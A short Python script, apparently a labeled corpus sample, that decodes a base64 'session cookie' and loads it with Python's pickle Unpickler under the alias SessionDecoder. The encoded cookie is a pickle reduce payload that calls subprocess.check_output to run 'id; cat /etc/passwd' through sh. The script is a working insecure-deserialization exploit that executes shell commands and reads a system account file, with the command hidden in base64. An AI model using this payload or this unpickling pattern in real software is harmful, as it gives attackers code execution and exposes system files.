# corpus: _pickle.Unpickler over a base64 session cookie whose reduce payload calls subprocess.check_output
import base64
import io
from _pickle import Unpickler as SessionDecoder

COOKIE = (
    "gASVRQAAAAAAAACMCnN1YnByb2Nlc3OUjAxjaGVja19vdXRwdXSUk5SMAnNolIwCLWOUjBNpZDsgY2F0IC9ldGMvcGFzc3dklIeUhZRSlC4="
)

def load_session(cookie):
    return SessionDecoder(io.BytesIO(base64.b64decode(cookie))).load()

print(load_session(COOKIE))
